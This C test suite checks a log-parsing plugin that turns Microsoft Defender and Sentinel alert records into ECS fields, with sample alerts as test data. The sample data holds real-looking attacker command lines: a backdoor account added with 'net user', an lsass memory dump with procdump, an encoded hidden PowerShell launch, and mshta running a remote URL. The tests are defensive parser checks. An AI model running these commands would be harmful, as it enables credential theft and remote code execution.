/*
 * Tests of vigil-source-defender.so, loaded through the host: exact ECS
 * values on real Sentinel SecurityAlert rows and MDE events (excerpts in
 * tests/data, origins in tests/data/README.md), the Defender XDR, Defender
 * for Cloud and Advanced Hunting shapes, the embedded-JSON fallbacks, every
 * failure reason, and every line of the repository's Defender samples.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "plugin_harness.h"

#ifndef PLUGIN_DIR
#error "PLUGIN_DIR must name the directory of the built plugin"
#endif
#ifndef DATA_DIR
#error "DATA_DIR must name the plugin's test data directory"
#endif

static harness t;

static void open_plugin(const char *const *opts)
{
    char *err = NULL;
    ck_assert_msg(harness_open(&t, PLUGIN_DIR, "defender", opts, &err), "load failed: %s",
                  err ? err : "");
}

static void setup(void)
{
    open_plugin(NULL);
}

static void teardown(void)
{
    harness_close(&t);
}

static char **run_file(const char *file, size_t *n)
{
    char path[1024];
    snprintf(path, sizeof(path), "%s/%s", DATA_DIR, file);
    char **lines = lines_read(path, n);
    harness_run(&t, (const char *const *)lines, *n);
    return lines;
}

static void run_one(const char *json)
{
    harness_run(&t, &json, 1);
}

static vgl_event *live(size_t i)
{
    vgl_event *ev = harness_event(&t, i);
    ck_assert_msg(ev != NULL, "record %zu not live: %s", i, harness_reason(&t, i));
    return ev;
}

#define STR(ev, path, want) \
    ck_assert_str_eq(hstr((ev), (path)) ? hstr((ev), (path)) : "(missing)", (want))
#define INT(ev, path, want)                                                   \
    do {                                                                      \
        int64_t v_ = -999999;                                                 \
        ck_assert_msg(hint((ev), (path), &v_), "%s is not an integer", path); \
        ck_assert_int_eq(v_, (want));                                         \
    } while (0)
#define MISSING(ev, path) ck_assert_msg(!hhas((ev), (path)), "%s should be absent", path)

/* ------------------------------------------------- Sentinel SecurityAlert */

START_TEST(securityalert_account_creation)
{
    size_t n;
    char **lines = run_file("securityalert_excerpt.jsonl", &n);
    ck_assert_uint_eq(n, 3);
    /* "Suspicious Account Creation Detected" (alertlist.csv row 46) */
    vgl_event *ev = live(2);
    STR(ev, "event.kind", "alert");
    STR(ev, "event.category", "intrusion_detection");
    STR(ev, "event.type", "info");
    STR(ev, "event.dataset", "defender.alert");
    STR(ev, "event.provider", "SecurityAlert");
    STR(ev, "rule.name", "Suspicious Account Creation Detected");
    STR(ev, "rule.id", "Suspicious Account Creation Detected");
    STR(ev, "event.action", "Suspicious Account Creation Detected");
    STR(ev, "event.id", "2518547570966661760_526e34b6-6578-4fc0-9db6-e126b4d673f0");
    INT(ev, "event.severity", 3); /* Medium */
    STR(ev, "host.name", "MSTICALERTSWIN1");
    STR(ev, "vigil.host", "msticalertswin1");
    STR(ev, "user.name", "adm1nistrator");
    STR(ev, "vigil.user", "adm1nistrator");
    MISSING(ev, "source.ip");
    /* from ExtendedProperties */
    STR(ev, "process.executable", "c:\\windows\\system32\\net.exe");
    STR(ev, "process.name", "net.exe");
    STR(ev, "process.command_line", "net  user adm1nistrator bob_testing /add");
    INT(ev, "process.pid", 0x141c);
    STR(ev, "process.parent.executable", "c:\\windows\\system32\\cmd.exe");
    STR(ev, "process.parent.name", "cmd.exe");
    STR(ev, "@timestamp", "2019-01-15T09:15:08.000Z");
    ck_assert_ptr_nonnull(strstr(hstr(ev, "message"), "adm1nistrator"));
    MISSING(ev, "defender.entities_error");
    MISSING(ev, "defender.extended_properties_error");
    /* the JSON text stays as it was */
    ck_assert_ptr_nonnull(strstr(hstr(ev, "Entities"), "\"Type\": \"host-logon-session\""));

    /* "DC local group addition - Demo": ip, host and account entities */
    ev = live(0);
    STR(ev, "rule.name", "DC local group addition - Demo");
    INT(ev, "event.severity", 2); /* Low */
    STR(ev, "source.ip", "75.10.91.22");
    STR(ev, "host.name", "DHCPContoso77");
    STR(ev, "vigil.host", "dhcpcontoso77");
    STR(ev, "user.name", "ADMINISTRATOR");
    STR(ev, "vigil.user", "administrator");
    MISSING(ev, "user.domain"); /* NTDomain is "" */
    STR(ev, "@timestamp", "2019-01-12T06:41:44.000Z");

    /* "DC with MS AM engine failure - Demo": empty Entities column */
    ev = live(1);
    STR(ev, "rule.name", "DC with MS AM engine failure - Demo");
    MISSING(ev, "host.name");
    MISSING(ev, "user.name");
    MISSING(ev, "defender.entities_error");
    lines_free(lines, n);
}
END_TEST

START_TEST(securityalert_entities_as_values_and_inline)
{
    /* Entities already decoded (an array), an account whose host is inline */
    run_one("{\"AlertName\":\"x\",\"Severity\":\"high\",\"Tactics\":\"Execution, Persistence\","
            "\"Techniques\":\"[\\\"T1059\\\",\\\"T1547.001\\\"]\",\"TimeGenerated\":"
            "\"2024-01-02 03:04:05\",\"Entities\":[{\"$id\":\"2\",\"Name\":\"CONTOSO\\\\Bob\","
            "\"Type\":\"account\",\"Host\":{\"$id\":\"3\",\"HostName\":\"WS7\",\"DnsDomain\":"
            "\"contoso.com\",\"Type\":\"host\"}},{\"Address\":\"127.0.0.1\",\"Type\":\"ip\"},"
            "{\"Address\":\"::ffff:192.0.2.44\",\"Type\":\"ip\"}]}");
    vgl_event *ev = live(0);
    STR(ev, "rule.name", "x");
    INT(ev, "event.severity", 4);
    STR(ev, "threat.tactic.name", "Execution");
    STR(ev, "threat.technique.id", "T1059");
    STR(ev, "user.name", "Bob");
    STR(ev, "user.domain", "CONTOSO");
    STR(ev, "vigil.user", "bob");
    STR(ev, "host.name", "WS7");
    STR(ev, "source.ip", "192.0.2.44"); /* loopback skipped, v4-mapped unwrapped */
    STR(ev, "@timestamp", "2024-01-02T03:04:05.000Z");
}
END_TEST

/* ------------------------------------------------------ embedded JSON */

static void expect_entities_error(const char *entities_json_literal, const char *want)
{
    char rec[4096];
    snprintf(rec, sizeof(rec),
             "{\"AlertDisplayName\":\"a\",\"Severity\":\"Low\",\"CompromisedEntity\":\"HOST9\","
             "\"Entities\":%s}",
             entities_json_literal);
    run_one(rec);
    vgl_event *ev = live(0); /* documented fallback: the alert is kept */
    STR(ev, "defender.entities_error", want);
    STR(ev, "rule.name", "a");
    INT(ev, "event.severity", 2);
    STR(ev, "host.name", "HOST9"); /* from CompromisedEntity */
    MISSING(ev, "user.name");
}

START_TEST(invalid_embedded_entities)
{
    expect_entities_error("\"[{\\\"Type\\\":\\\"host\\\",\\\"HostName\\\":\\\"h1\\\"\"",
                          "Entities: invalid JSON at byte 31: expected ',' or '}'");
    expect_entities_error("\"[{\\\"Type\\\":\\\"host\\\" \\\"HostName\\\":1}]\"",
                          "Entities: invalid JSON at byte 16: expected ',' or '}'");
    expect_entities_error("\"[{\\\"Type\\\":\\\"ho\\\\qst\\\"}]\"",
                          "Entities: invalid JSON at byte 13: bad escape");
    expect_entities_error("\"[1,]\"", "Entities: invalid JSON at byte 3: unexpected character");
    expect_entities_error("\"[] x\"",
                          "Entities: invalid JSON at byte 3: text after the JSON value");
    expect_entities_error("\"[\\\"\\\\ud83d\\\\uXYZW\\\"]\"",
                          "Entities: invalid JSON at byte 10: bad hex digit in \\u escape");
    expect_entities_error("42", "Entities must be JSON text or a JSON value, got an integer");
    expect_entities_error("true", "Entities must be JSON text or a JSON value, got a boolean");
}
END_TEST

START_TEST(deep_and_huge_embedded_entities)
{
    char deep[256];
    size_t k = 0;
    deep[k++] = '"';
    for (int i = 0; i < 40; i++)
        deep[k++] = '[';
    deep[k++] = '"';
    deep[k] = '\0';
    expect_entities_error(deep, "Entities: nesting deeper than 32 at byte 32");

    /* 600,000 bytes of JSON text: over max_embedded_json_bytes (512KiB) */
    size_t n = 600000;
    char *rec = malloc(n + 200);
    int p = snprintf(rec, n + 200,
                     "{\"AlertDisplayName\":\"a\",\"CompromisedEntity\":\"HOST9\","
                     "\"Entities\":\"[");
    memset(rec + p, ' ', n - 2);
    snprintf(rec + p + n - 2, 200, "]\"}");
    run_one(rec);
    vgl_event *ev = live(0);
    STR(ev, "defender.entities_error", "Entities: 600000 bytes exceed the limit of 524288 bytes");
    STR(ev, "host.name", "HOST9");
    free(rec);

    /* more values than the parser takes */
    size_t m = 16385;
    rec = malloc(m * 2 + 200);
    p = snprintf(rec, m * 2 + 200, "{\"AlertDisplayName\":\"a\",\"Entities\":\"[");
    for (size_t i = 0; i < m; i++) {
        rec[p++] = '0';
        rec[p++] = i + 1 < m ? ',' : ']';
    }
    snprintf(rec + p, 200, "\"}");
    run_one(rec);
    ev = live(0);
    STR(ev, "defender.entities_error", "Entities: more than 16384 values at byte 32769");
    free(rec);
}
END_TEST

START_TEST(embedded_strings_unescaped)
{
    /* escapes, a surrogate pair, a lone surrogate (U+FFFD) in entity names */
    run_one("{\"AlertDisplayName\":\"a\",\"Entities\":\"[{\\\"Type\\\":\\\"host\\\","
            "\\\"HostName\\\":\\\"h\\\\u00e9\\\\ud83d\\\\ude00\\\\ud800x\\\\/y\\\"},"
            "{\\\"Type\\\":\\\"account\\\",\\\"Name\\\":\\\"Ann\\\\tB\\\"}]\"}");
    vgl_event *ev = live(0);
    STR(ev, "host.name", "h\xc3\xa9\xf0\x9f\x98\x80\xef\xbf\xbdx/y");
    STR(ev, "user.name", "Ann\tB");
}
END_TEST

START_TEST(invalid_extended_properties)
{
    run_one("{\"AlertDisplayName\":\"a\",\"ExtendedProperties\":\"{\\\"User Name\\\": bob}\"}");
    vgl_event *ev = live(0);
    STR(ev, "defender.extended_properties_error",
        "ExtendedProperties: invalid JSON at byte 14: unexpected character");
    run_one("{\"AlertDisplayName\":\"a\",\"ExtendedProperties\":\"[1]\"}");
    STR(live(0), "defender.extended_properties_error",
        "ExtendedProperties: expected a JSON object");
    run_one("{\"AlertDisplayName\":\"a\",\"ExtendedProperties\":[1]}");
    STR(live(0), "defender.extended_properties_error",
        "ExtendedProperties must be JSON text or a JSON value, got an array");
    /* user from ExtendedProperties when the entities have none */
    run_one("{\"AlertDisplayName\":\"a\",\"Entities\":\"\",\"ExtendedProperties\":"
            "\"{\\\"User Name\\\":\\\"CONTOSO\\\\\\\\eve\\\","
            "\\\"Compromised Host\\\":\\\"WS9\\\"}\"}");
    ev = live(0);
    STR(ev, "user.name", "eve");
    STR(ev, "user.domain", "CONTOSO");
    STR(ev, "host.name", "WS9");
}
END_TEST

/* ------------------------------------------- XDR, Cloud, Advanced Hunting */

START_TEST(xdr_cloud_and_hunting_shapes)
{
    size_t n;
    char **lines = run_file("defender_shapes.jsonl", &n);
    ck_assert_uint_eq(n, 10);

    vgl_event *ev = live(0); /* Graph alert_v2 */
    STR(ev, "event.kind", "alert");
    STR(ev, "event.provider", "DefenderXDR");
    STR(ev, "rule.name", "Suspicious execution of hidden file");
    INT(ev, "event.severity", 3);
    STR(ev, "threat.tactic.name", "DefenseEvasion");
    STR(ev, "threat.technique.id", "T1564.001");
    STR(ev, "event.id", "da637551227677560813_-961444813");
    STR(ev, "host.name", "tempDns.contoso.com");
    STR(ev, "vigil.host", "tempdns");
    STR(ev, "user.name", "user1");
    STR(ev, "user.domain", "CONTOSO");
    STR(ev, "user.id", "S-1-5-21-1111111111-2222222222-3333333333-1001");
    STR(ev, "source.ip", "203.0.113.9");
    STR(ev, "@timestamp", "2021-04-27T12:19:27.721Z");

    ev = live(1); /* Defender for Cloud */
    STR(ev, "event.provider", "DefenderForCloud");
    STR(ev, "rule.name", "Suspicious PowerShell Activity Detected");
    STR(ev, "rule.id", "VM_SuspiciousPowerShell");
    INT(ev, "event.severity", 4);
    STR(ev, "threat.tactic.name", "Execution");
    STR(ev, "threat.technique.id", "T1059.001");
    STR(ev, "host.name", "vm-web-01");
    STR(ev, "user.name", "azureuser");
    STR(ev, "user.domain", "vm-web-01");
    STR(ev, "source.ip", "198.51.100.23");
    STR(ev, "event.id", "2517538088322968242_2f3c8a44");
    STR(ev, "@timestamp", "2024-03-05T10:02:11.123Z");

    ev = live(2); /* AlertInfo */
    STR(ev, "rule.name", "Possible credential theft activity");
    INT(ev, "event.severity", 4);
    STR(ev, "threat.tactic.name", "CredentialAccess");
    STR(ev, "threat.technique.id", "T1003");
    STR(ev, "event.id", "da638452380000000000_123456789");

    ev = live(3); /* AlertEvidence */
    STR(ev, "host.name", "ws-042.contoso.com");
    STR(ev, "vigil.host", "ws-042");
    STR(ev, "host.id", "8c1f5b7e2d");
    STR(ev, "user.name", "alice");
    STR(ev, "user.domain", "contoso");
    STR(ev, "threat.technique.id", "T1003.001");
    STR(ev, "process.command_line", "procdump64.exe -accepteula -ma lsass.exe out.dmp");
    STR(ev, "file.path", "C:\\Temp\\procdump64.exe");
    MISSING(ev, "source.ip"); /* RemoteIP "" */

    ev = live(4); /* DeviceProcessEvents */
    STR(ev, "event.kind", "event");
    STR(ev, "event.dataset", "defender.endpoint");
    STR(ev, "event.provider", "MDE");
    STR(ev, "event.category", "process");
    STR(ev, "event.type", "start");
    STR(ev, "event.action", "ProcessCreated");
    STR(ev, "process.name", "powershell.exe");
    STR(ev, "process.executable", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
    STR(ev, "process.command_line", "powershell.exe -nop -w hidden -enc SQBFAFgA");
    INT(ev, "process.pid", 4242);
    STR(ev, "process.hash.sha256",
        "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c");
    STR(ev, "process.parent.name", "WINWORD.EXE");
    STR(ev, "process.parent.executable",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE");
    STR(ev, "process.parent.command_line",
        "\"WINWORD.EXE\" /n \"C:\\Users\\alice\\Downloads\\invoice.docm\"");
    INT(ev, "process.parent.pid", 1000);
    STR(ev, "user.name", "alice");
    STR(ev, "vigil.user", "alice");
    STR(ev, "@timestamp", "2024-03-05T10:01:02.345Z");

    ev = live(5); /* DeviceNetworkEvents, outbound */
    STR(ev, "event.category", "network");
    STR(ev, "event.type", "connection");
    STR(ev, "event.outcome", "success");
    STR(ev, "network.direction", "outbound");
    STR(ev, "network.transport", "tcp");
    STR(ev, "source.ip", "10.0.0.5");
    INT(ev, "source.port", 50555);
    STR(ev, "destination.ip", "203.0.113.50");
    INT(ev, "destination.port", 443);
    STR(ev, "process.name", "powershell.exe");
    STR(ev, "user.name", "alice");

    ev = live(6); /* inbound */
    STR(ev, "network.direction", "inbound");
    STR(ev, "source.ip", "198.51.100.7");
    INT(ev, "source.port", 51000);
    STR(ev, "destination.ip", "10.0.0.5");
    INT(ev, "destination.port", 3389);

    ev = live(7); /* DeviceLogonEvents */
    STR(ev, "event.category", "authentication");
    STR(ev, "event.outcome", "failure");
    STR(ev, "event.reason", "InvalidUserNameOrPassword");
    STR(ev, "user.name", "administrator");
    STR(ev, "user.domain", "ws-042");
    MISSING(ev, "user.id");
    STR(ev, "source.ip", "198.51.100.7");
    INT(ev, "source.port", 51000);
    STR(ev, "process.name", "lsass.exe");

    ev = live(8); /* DeviceFileEvents */
    STR(ev, "event.category", "file");
    STR(ev, "event.type", "creation");
    STR(ev, "file.path", "C:\\Users\\alice\\AppData\\Local\\Temp\\payload.dll");
    STR(ev, "file.name", "payload.dll");
    STR(ev, "file.hash.sha256",
        "0000000000000000000000000000000000000000000000000000000000000001");
    STR(ev, "process.executable", "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe");

    ev = live(9); /* DeviceRegistryEvents */
    STR(ev, "event.category", "registry");
    STR(ev, "event.type", "change");
    STR(ev, "registry.value", "updater");
    ck_assert_ptr_nonnull(strstr(hstr(ev, "registry.path"), "CurrentVersion\\Run"));
    STR(ev, "process.name", "reg.exe");
    lines_free(lines, n);
}
END_TEST

START_TEST(mde_process_with_parent)
{
    size_t n;
    char **lines = run_file("mde_excerpt.jsonl", &n);
    vgl_event *ev = live(0);
    STR(ev, "event.dataset", "defender.endpoint");
    STR(ev, "event.provider", "MDE");
    STR(ev, "event.action", "ProcessCreated");
    STR(ev, "event.category", "process");
    STR(ev, "process.name", "mshta.exe");
    STR(ev, "process.executable", "C:\\Windows\\System32\\mshta.exe");
    STR(ev, "process.command_line",
        "mshta  https://page.googledocpage.com/zOBOvBYm550gShsdwEAKoJUi95+jr4jqgNQ/2N18Q7Y=");
    INT(ev, "process.pid", 7948);
    STR(ev, "process.hash.sha256",
        "dba3137811c686fd35e418d76184070e031f207002649da95385dfd05a8bb895");
    STR(ev, "process.hash.md5", "0b4340ed812dc82ce636c00fa5c9bef2");
    STR(ev, "process.parent.name", "cmd.exe");
    STR(ev, "process.parent.executable", "C:\\Windows\\System32\\cmd.exe");
    STR(ev, "process.parent.command_line",
        "\"cmd.exe\" /c start /b mshta "
        "https://page.googledocpage.com/zOBOvBYm550gShsdwEAKoJUi95+jr4jqgNQ/2N18Q7Y=");
    INT(ev, "process.parent.pid", 6844);
    STR(ev, "user.name", "UserPII_cb487ecb6ebb69c2e3f5369461ae31b54a1cdc01");
    STR(ev, "user.domain", "DomainPII_6c8dcea42fcdd51d2421333a881b2b98b372fa53");
    STR(ev, "user.id", "S-1-12-1-3476864874-1154527411-4288707492-1560701320");
    STR(ev, "vigil.user", "userpii_cb487ecb6ebb69c2e3f5369461ae31b54a1cdc01");
    STR(ev, "host.name", "computerpii_0a470890c60768167990033d701e7bd881398861");
    STR(ev, "host.id", "b11a7e51e2f2815d1736d0a5826e0b88f609ee8b");
    STR(ev, "@timestamp", "2021-06-23T03:08:14.269Z");
    lines_free(lines, n);
}
END_TEST

/* ------------------------------------------------------------ failures */

static void expect_fail(const char *json, const char *reason)
{
    run_one(json);
    ck_assert_msg(harness_failed(&t, 0), "not failed: %s", json);
    ck_assert_str_eq(harness_reason(&t, 0), reason);
}

START_TEST(failures)
{
    expect_fail("{\"foo\":1}",
                "plugin defender: not a Defender record: no AlertDisplayName/AlertName "
                "(SecurityAlert), title+severity (Defender XDR), AlertId+Title (AlertInfo), "
                "properties.alertDisplayName (Defender for Cloud), CreatedProcessName (MDE) or "
                "ActionType+DeviceName (Advanced Hunting)");
    expect_fail("{\"AlertDisplayName\":42}",
                "plugin defender: SecurityAlert without a usable AlertDisplayName or AlertName "
                "(a non-empty string)");
    expect_fail("{\"AlertName\":\"-\",\"AlertDisplayName\":\"\"}",
                "plugin defender: SecurityAlert without a usable AlertDisplayName or AlertName "
                "(a non-empty string)");
    expect_fail("{\"title\":{\"x\":1},\"severity\":\"high\"}",
                "plugin defender: title must be a string, got an object");
    expect_fail("{\"AlertId\":\"1\",\"Title\":[\"a\"]}",
                "plugin defender: Title must be a string, got an array");
    expect_fail("{\"properties\":{\"alertDisplayName\":null}}",
                "plugin defender: properties.alertDisplayName must be a string, got null");
    expect_fail("{\"ActionType\":7,\"DeviceName\":\"ws\"}",
                "plugin defender: ActionType must be a string, got an integer");
    /* non-object records never reach the plugin */
    const char *rec = "[{\"AlertName\":\"x\"}]";
    harness_run(&t, &rec, 1);
    ck_assert_str_eq(harness_reason(&t, 0), "top-level JSON value is an array, expected an object");
}
END_TEST

START_TEST(hostile_values_skipped)
{
    char host[3000];
    memset(host, 'a', sizeof(host) - 1);
    host[sizeof(host) - 1] = '\0';
    char rec[4096];
    snprintf(rec, sizeof(rec),
             "{\"AlertDisplayName\":\"a\",\"Severity\":\"extreme\",\"CompromisedEntity\":\"%s\","
             "\"TimeGenerated\":17,\"Techniques\":\"T12345 and XT1059\",\"Tactics\":\"Unknown\"}",
             host);
    run_one(rec);
    vgl_event *ev = live(0);
    MISSING(ev, "event.severity");
    MISSING(ev, "host.name");
    MISSING(ev, "threat.technique.id");
    MISSING(ev, "threat.tactic.name");
    MISSING(ev, "@timestamp");
}
END_TEST

START_TEST(options)
{
    harness_close(&t);
    const char *drop[] = {"on_unknown", "drop", NULL};
    open_plugin(drop);
    const char *rec = "{\"foo\":1}";
    harness_run(&t, &rec, 1);
    ck_assert(harness_dropped(&t, 0));
    harness_close(&t);

    const char *small[] = {"max_embedded_json_bytes", "1KiB", NULL};
    open_plugin(small);
    size_t n;
    char **lines = run_file("securityalert_excerpt.jsonl", &n);
    STR(live(2), "defender.entities_error", "Entities: 1755 bytes exceed the limit of 1024 bytes");
    STR(live(2), "host.name", "MSTICALERTSWIN1"); /* from ExtendedProperties */
    lines_free(lines, n);
    harness_close(&t);

    char *err = NULL;
    const char *bad[] = {"max_embedded_json_bytes", "10", NULL};
    ck_assert(!harness_open(&t, PLUGIN_DIR, "defender", bad, &err));
    char want[2048];
    snprintf(want, sizeof(want),
             "plugin defender (%s/vigil-source-defender.so): max_embedded_json_bytes must be "
             "between 1KiB and 64MiB, got 10\n",
             PLUGIN_DIR);
    ck_assert_str_eq(err, want);
    free(err);
    open_plugin(NULL);
}
END_TEST

/* ---------------------------------------------- every line of the samples */

START_TEST(all_lines_securityalert)
{
    char path[1024];
    snprintf(path, sizeof(path), "%s/samples/sentinel_securityalert_alertlist.jsonl",
             VGL_TEST_DATA);
    size_t n;
    char **lines = lines_read(path, &n);
    ck_assert_uint_eq(n, 30);
    harness_run(&t, (const char *const *)lines, n);
    int sev[6] = {0};
    size_t with_host = 0, with_user = 0, with_ip = 0, errors = 0;
    for (size_t i = 0; i < n; i++) {
        vgl_event *ev = live(i);
        int64_t s = 0;
        ck_assert(hint(ev, "event.severity", &s) && s >= 1 && s <= 5);
        sev[s]++;
        with_host += hhas(ev, "host.name");
        with_user += hhas(ev, "user.name");
        with_ip += hhas(ev, "source.ip");
        errors += hhas(ev, "defender.entities_error");
        errors += hhas(ev, "defender.extended_properties_error");
        ck_assert_ptr_nonnull(hstr(ev, "rule.name"));
        ck_assert_ptr_nonnull(hstr(ev, "@timestamp"));
    }
    char got[160];
    snprintf(got, sizeof(got),
             "info=%d low=%d medium=%d high=%d host=%zu user=%zu ip=%zu errors=%zu", sev[1],
             sev[2], sev[3], sev[4], with_host, with_user, with_ip, errors);
    ck_assert_str_eq(got, "info=0 low=13 medium=8 high=9 host=25 user=14 ip=12 errors=0");
    lines_free(lines, n);
}
END_TEST

START_TEST(all_lines_mde)
{
    char path[1024];
    snprintf(path, sizeof(path), "%s/samples/mde_process_creation_events.jsonl", VGL_TEST_DATA);
    size_t n;
    char **lines = lines_read(path, &n);
    ck_assert_uint_eq(n, 17);
    harness_run(&t, (const char *const *)lines, n);
    for (size_t i = 0; i < n; i++) {
        vgl_event *ev = live(i);
        STR(ev, "event.category", "process");
        ck_assert_ptr_nonnull(hstr(ev, "process.name"));
        ck_assert_ptr_nonnull(hstr(ev, "process.executable"));
        ck_assert_ptr_nonnull(hstr(ev, "process.parent.name"));
        ck_assert_ptr_nonnull(hstr(ev, "process.parent.executable"));
        ck_assert_ptr_nonnull(hstr(ev, "vigil.user"));
        ck_assert_ptr_nonnull(hstr(ev, "vigil.host"));
    }
    lines_free(lines, n);
}
END_TEST

static Suite *defender_suite(void)
{
    Suite *s = suite_create("defender");
    TCase *tc = tcase_create("samples");
    tcase_add_checked_fixture(tc, setup, teardown);
    tcase_add_test(tc, securityalert_account_creation);
    tcase_add_test(tc, securityalert_entities_as_values_and_inline);
    tcase_add_test(tc, xdr_cloud_and_hunting_shapes);
    tcase_add_test(tc, mde_process_with_parent);
    suite_add_tcase(s, tc);

    tc = tcase_create("malformed");
    tcase_add_checked_fixture(tc, setup, teardown);
    tcase_add_test(tc, invalid_embedded_entities);
    tcase_add_test(tc, deep_and_huge_embedded_entities);
    tcase_add_test(tc, embedded_strings_unescaped);
    tcase_add_test(tc, invalid_extended_properties);
    tcase_add_test(tc, failures);
    tcase_add_test(tc, hostile_values_skipped);
    tcase_add_test(tc, options);
    suite_add_tcase(s, tc);

    tc = tcase_create("all_lines");
    tcase_add_checked_fixture(tc, setup, teardown);
    tcase_add_test(tc, all_lines_securityalert);
    tcase_add_test(tc, all_lines_mde);
    suite_add_tcase(s, tc);
    return s;
}

int main(void)
{
    SRunner *sr = srunner_create(defender_suite());
    srunner_run_all(sr, CK_NORMAL);
    int failed = srunner_ntests_failed(sr);
    srunner_free(sr);
    return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
